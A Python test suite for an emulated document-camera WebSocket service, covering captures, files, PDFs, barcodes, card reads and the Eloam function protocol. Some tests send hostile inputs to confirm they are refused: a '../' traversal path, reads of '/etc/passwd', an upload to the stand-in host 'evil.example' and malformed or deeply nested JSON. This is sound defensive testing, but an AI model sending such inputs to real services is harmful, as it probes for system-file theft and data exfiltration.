"""CAMSDK and Eloam's functions over one WebSocket port (9000), as their pages speak to them."""

from __future__ import annotations

import asyncio
import base64
import json
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import cv2
import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.dialects.camsdk.results import encoded
from tests.dialects.conftest import Ports
from tests.dialects.pages import closed, is_open, jpeg, socket_page, until
from tests.fakes.camera import SIZES, FakeCamera
from tests.fakes.face_engine import portrait
from tests.functional.conftest import Running
from tests.patience import PATIENCE

MARKS = ("FileEncodeBase64", "$-$", "$+$", "$$$", "$*$")


class CamPage:
    """A page that looks for marks in each text before it takes it as JSON."""

    def __init__(self, socket: aiohttp.ClientWebSocketResponse) -> None:
        self.socket = socket

    async def say(self, name: str, /, **argument: object) -> None:
        request: dict[str, object] = {"FuncName": name}
        if argument:
            request["argument"] = argument
        await self.socket.send_str(json.dumps(request))

    async def text(self) -> str:
        async with asyncio.timeout(PATIENCE):
            message = await self.socket.receive()
        assert message.type is aiohttp.WSMsgType.TEXT, message
        return str(message.data)

    async def frame(self) -> bytes:
        """The next picture; answers are passed over."""
        while "$*$" not in (text := await self.text()) or "FileEncodeBase64" in text:
            pass
        return jpeg(text.split("$*$")[1])

    async def result(self, name: str) -> Any:
        """The result of the next answer of that name; pictures and other answers are passed over."""
        while True:
            text = await self.text()
            if any(mark in text for mark in MARKS):
                continue
            answer = json.loads(text)
            assert list(answer) == ["FuncName", "result"]
            assert text == json.dumps(answer, separators=(",", ":"), ensure_ascii=False) or "\\u00" in text
            if answer["FuncName"] == name:
                return answer["result"]

    async def ask(self, name: str, /, **argument: object) -> Any:
        await self.say(name, **argument)
        return await self.result(name)


@pytest.fixture
async def page(service: Running, ports: Ports) -> AsyncIterator[CamPage]:
    async with socket_page(ports.ws("camsdk")) as socket:
        yield CamPage(socket)


def size(data: bytes) -> tuple[int, int]:
    image = cv2.imdecode(np.frombuffer(data, np.uint8), cv2.IMREAD_COLOR)
    return image.shape[1], image.shape[0]


async def opened(page: CamPage) -> None:
    assert await page.ask("camOpenDev", devIndex=0, subtype=0, width=0, height=0) == "0"


async def test_the_first_words_of_a_page(service: Running, page: CamPage) -> None:
    await page.say("camUnInitCameraLib")
    await page.say("camInitCameraLib")
    await page.say("GetSpecialFolderPath", nFolder=5)
    assert await page.text() == '{"FuncName":"camUnInitCameraLib","result":"0"}'
    assert await page.text() == '{"FuncName":"camInitCameraLib","result":"0"}'
    assert await page.text() == '{"FuncName":"GetSpecialFolderPath","result":"D:\\\\Documents"}'
    for name in ("camOpenDev", "camStartPreview", "camGetDevName", "camGetAudioDevName"):
        await page.say(name)
    assert await page.result("camOpenDev") == "0"
    assert await page.result("camGetDevName") == ["Fake"]
    assert await page.result("camGetAudioDevName") == []
    assert await page.ask("camGetResolution") == ["640*480", "320*240"]
    assert await page.ask("camGetMediaTypeName") == ["MJPG"]
    assert await page.ask("camGetDevCount") == "1"
    assert size(await page.frame()) == SIZES[0]


async def test_pictures_begin_with_the_camera(service: Running, page: CamPage) -> None:
    await page.say("camOpenDev", devIndex=0, width=320, height=240)
    assert size(await page.frame()) == (320, 240)
    assert await page.ask("camSetResolution", index=0) == "0"
    async with asyncio.timeout(PATIENCE):
        while size(await page.frame()) != SIZES[0]:
            pass
    assert await page.ask("camSetResolution", index=7) == "6"
    assert await page.ask("camSetMediaType", index=0) == "0"
    assert await page.ask("camCloseDev", devIndex=0) == "0"
    assert not is_open(service)


async def test_a_change_of_devices_closes_the_other(service: Running, page: CamPage) -> None:
    second = FakeCamera("Second")
    service.finder.cameras.append(second)
    await opened(page)
    assert await page.ask("camOpenDev", devIndex=1) == "0"
    assert not is_open(service)
    await page.frame()
    assert await page.ask("camOpenDev", devIndex=5) == "10"


async def test_captures_follow_the_settings_sent_just_before(service: Running, page: CamPage) -> None:
    await opened(page)
    await page.say("camSetImageAutoCrop", CropType=1)
    await page.say("CaptureEncodeBase64")
    assert size(jpeg(await page.result("CaptureEncodeBase64")))[0] < SIZES[0][0]
    await page.say("camSetImageAutoCrop", CropType=5)
    await page.say("camSetImageCusCropRect", left=10, right=110, top=20, bottom=220)
    assert size(jpeg(await page.ask("CaptureEncodeBase64"))) == (100, 200)
    await page.say("camSetImageCusCropRect", left=0, right=0, top=0, bottom=0)
    assert size(jpeg(await page.ask("CaptureEncodeBase64"))) == SIZES[0]
    await page.say("camSetImageRotateMode", rotateMode=1)
    await page.say("camSetImageColorStyle", itype=1)
    assert size(jpeg(await page.ask("CaptureEncodeBase64", nIndex=0))) == SIZES[0][::-1]
    assert await page.ask("camSetImageAdjust", Type=3) == "0"
    assert await page.ask("camSetImageAdjust", Type=9) == "8"
    for name in ("camSetImageDPI", "camSetImageJPGQuanlity", "PreZoneSize"):
        assert await page.ask(name, xDPI=300) == "0"


async def test_a_capture_without_a_camera_is_empty(page: CamPage) -> None:
    assert await page.ask("CaptureEncodeBase64") == ""
    assert await page.ask("camCaptureImageFile", filePath="D:\\a.jpg") == "11"
    assert await page.ask("camStartPreview") == "11"


async def test_files_are_written_replaced_and_read_back(service: Running, page: CamPage) -> None:
    await opened(page)
    for _ in range(2):
        assert await page.ask("camCaptureImageFile", filePath="C:\\\\imageDir\\\\DocCamera.jpg") == "0"
    written = (service.root / "C/imageDir/DocCamera.jpg").read_bytes()
    await page.say("FileEncodeBase64", filePath="C:\\imageDir\\DocCamera.jpg")
    while not (text := await page.text()).startswith("FileEncodeBase64"):
        pass
    parts = text.split("$*$")
    assert parts[1] == "C:\\imageDir\\DocCamera.jpg"
    assert base64.b64decode(parts[2]) == written
    for suffix in ("bmp", "png", "tif", "pdf"):
        assert await page.ask("camCaptureImageFile", filePath=f"D:/x.{suffix}") == "0"
    assert await page.ask("camCaptureImageFile", filePath="D:/x.exe") == "7"
    assert await page.ask("camCaptureImageFile", filePath="../x.jpg") == "7"
    assert await page.ask("camDeleteFile", FilePath="D:/x.png") == "8"
    assert await page.ask("DeleteFolderDayFileA", Dictpry="D:/") == "8"
    (service.root / "D/x.png").stat()
    await page.say("FileEncodeBase64", filePath="/etc/passwd")
    assert await page.ask("camGetDevCount") == "1"


async def test_a_pdf(service: Running, page: CamPage) -> None:
    await opened(page)
    assert await page.ask("camCombinePDF", filePath="D:\\o.pdf") == "6"
    await page.ask("camCaptureImageFile", filePath="D:\\1.jpg")
    assert await page.ask("camAddFileToPDFList", filePath="D:\\1.jpg") == "0"
    assert await page.ask("camAddFileToPDFList", filePath="/etc/passwd") == "7"
    assert await page.ask("camCombinePDF", filePath="D:\\o.pdf", JpegQuality=50) == "0"
    assert (service.root / "D/o.pdf").read_bytes().startswith(b"%PDF-")


async def test_barcodes(service: Running, page: CamPage) -> None:
    code = cv2.resize(cv2.QRCodeEncoder.create().encode("A$*$7"), (300, 300), interpolation=0)
    paper = np.full((480, 640), 255, np.uint8)
    paper[90:390, 170:470] = code
    service.camera.jpegs[SIZES[0]] = [cv2.imencode(".jpg", paper)[1].tobytes()]
    await opened(page)
    await page.ask("camCaptureImageFile", filePath="D:\\c.jpg")
    assert await page.ask("coderRecognizeBarcode", strBarcodePath="D:\\c.jpg") == "A$*$7"
    assert await page.ask("ocrRecognizeBarcodeRect") == "1"
    assert await page.ask("ocrGetBarcodeText", nIndex=0) == "A$*$7"


async def test_cards(service: Running, page: CamPage) -> None:
    parts = (await page.ask("idcardrfidReadIDCardEx")).split("|")
    assert len(parts) == 10
    assert (parts[0], parts[5]) == ("王小明", "911124198802291234")
    assert "王小明" in await page.ask("idcardrfidReadIDCard", HeadPath="D:\\head.jpg")
    assert (await page.ask("ReadSBKCaard")).startswith("欧阳小明|")
    assert await page.ask("ReadBankCard") == "6228480402564890018"
    service.reader.put.clear()
    assert await page.ask("ReadBankCard") == "1"


async def test_uploads_say_what_pages_look_for(service: Running, page: CamPage) -> None:
    await opened(page)
    await page.ask("camCaptureImageFile", filePath="D:\\u.jpg")
    asked = {"filePath": "D://u.jpg", "url": "http://evil.example/up", "param": "{}", "response": ""}
    assert await page.ask("camUpdataFileHttp", **asked) == "上传失败"


@pytest.mark.parametrize("name", ["camUpdataFileFtp", "camDeleteFile", "StartSignDevice", "ReadMagneticCard"])
async def test_what_is_not_served_has_the_makers_number(page: CamPage, name: str) -> None:
    assert await page.ask(name) == "8"


async def test_what_is_unknown_is_passed_over(service: Running, page: CamPage) -> None:
    hostile = ["", "x", "null", "[]", "{", "{}", '{"FuncName":7}', '{"FuncName":"nothing"}', "<ReadIdCard>"]
    hostile += ['{"FuncName":"$*$"}', '{"FuncName":"camOpenDev","argument":[1]}', "IsInit", '{"a":' * 9999]
    hostile += ['{"FuncName":"FileEncodeBase64","argument":{"filePath":"\\ud800"}}']
    for text in hostile:
        await page.socket.send_str(text)
    assert await page.ask("camGetDevCount") == "1"


async def test_the_camera_is_closed_when_the_page_vanishes(service: Running, page: CamPage) -> None:
    await opened(page)
    connection = page.socket._response.connection
    assert connection is not None
    assert connection.transport is not None
    connection.transport.abort()
    await closed(service)


async def test_a_storm_of_reconnections(service: Running, ports: Ports) -> None:
    for _ in range(30):
        async with socket_page(ports.ws("camsdk")) as socket:
            await CamPage(socket).say("camOpenDev", devIndex=0)
    await until(lambda: not is_open(service))
    async with socket_page(ports.ws("camsdk")) as socket:
        await opened(CamPage(socket))


async def test_an_own_file_of_faces(service: Running, page: CamPage) -> None:
    for number, person in enumerate((1, 1, 9)):
        service.camera.jpegs[SIZES[0]] = [cv2.imencode(".jpg", portrait(person))[1].tobytes()]
        service.camera.jpegs[SIZES[0]] *= 1
        await opened(page)
        assert await page.ask("camCaptureImageFile", filePath=f"D:\\{number}.bmp") == "0"
    result = await page.ask("camMatchFaceByFile", filePath1="D:\\0.bmp", filePath2="D:\\1.bmp")
    assert 0 <= int(result) <= 100


@given(st.text(max_size=30) | st.text("$*-+FileEncodeBase64", max_size=60) | st.lists(st.text(max_size=8)))
def test_no_answer_shows_a_mark(result: object) -> None:
    try:
        text = encoded("camGetDevName", result).decode()
    except UnicodeEncodeError:
        return
    assert not any(mark in text for mark in MARKS)
    assert json.loads(text) == {"FuncName": "camGetDevName", "result": result}


# Eloam's functions -------------------------------------------------------------------------


class FunctionPage:
    """A page that matches answers by name, first in, first out."""

    def __init__(self, socket: aiohttp.ClientWebSocketResponse) -> None:
        self.socket = socket

    async def message(self) -> dict[str, Any]:
        async with asyncio.timeout(PATIENCE):
            return json.loads((await self.socket.receive()).data)

    async def ask(self, function: str, **members: object) -> tuple[int, Any]:
        await self.socket.send_str(json.dumps({"function": function, **members}))
        while (answer := await self.message())["function"] != function:
            pass
        assert isinstance(answer["ret"], int)
        return answer["ret"], answer["value"]


@pytest.fixture
async def functions(service: Running, ports: Ports) -> AsyncIterator[FunctionPage]:
    async with socket_page(ports.ws("camsdk")) as socket:
        yield FunctionPage(socket)


async def test_functions(service: Running, functions: FunctionPage) -> None:
    ask = functions.ask
    assert await ask("InitDevs") == (0, "")
    assert await ask("GetDeviceCount") == (0, 1)
    assert await ask("GetDeviceName", device=0) == (0, "Fake")
    assert await ask("GetResolution", device=0) == (0, "640*480|320*240")
    assert (await ask("GetResolution", device=9))[0] < 0
    assert (await ask("ScanImage", imagepath="", colorize=0, type=True))[0] < 0
    assert await ask("OpenCamera", device=0, resolution=1, datacallback=True) == (0, "")
    pushed = await functions.message()
    assert pushed["function"] == "ImageCallback"
    assert size(jpeg(pushed["value"])) == (320, 240)
    ret, picture = await ask("ScanImage", imagepath="", colorize=1, type=True)
    assert (ret, size(jpeg(picture))) == (0, (320, 240))
    assert await ask("SetDeskew", isdeskew=1) == (0, "")
    assert size(jpeg((await ask("ScanImage", imagepath="D:\\s.jpg"))[1]))[0] < 320
    assert (service.root / "D/s.jpg").exists()
    assert (await ask("OpenCamera", device=0, resolution=9))[0] < 0
    assert (await ask("Nothing"))[0] < 0
    assert await ask("CloseCamera", device=0) == (0, "")
    assert not is_open(service)
    assert await ask("CloseCamera", device=0) == (0, "")
    assert await ask("DeinitDevs") == (0, "")


async def test_the_answer_comes_before_the_first_picture(functions: FunctionPage) -> None:
    await functions.socket.send_str('{"function":"OpenCamera","device":0,"resolution":0}')
    assert (await functions.message())["function"] == "OpenCamera"
    assert (await functions.message())["function"] == "ImageCallback"


async def test_a_late_answer_is_dropped(
    service: Running, functions: FunctionPage, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("server.dialects.camsdk.functions.SECONDS", {"ScanImage": 0.05})
    await functions.ask("OpenCamera", device=0, resolution=0)
    service.camera.frozen.set()
    await functions.socket.send_str('{"function":"ScanImage","imagepath":""}')
    await functions.socket.send_str('{"function":"GetDeviceCount"}')
    seen = []
    while (message := await functions.message())["function"] != "GetDeviceCount":
        seen.append(message["function"])
    assert "ScanImage" not in seen
    service.camera.frozen.clear()
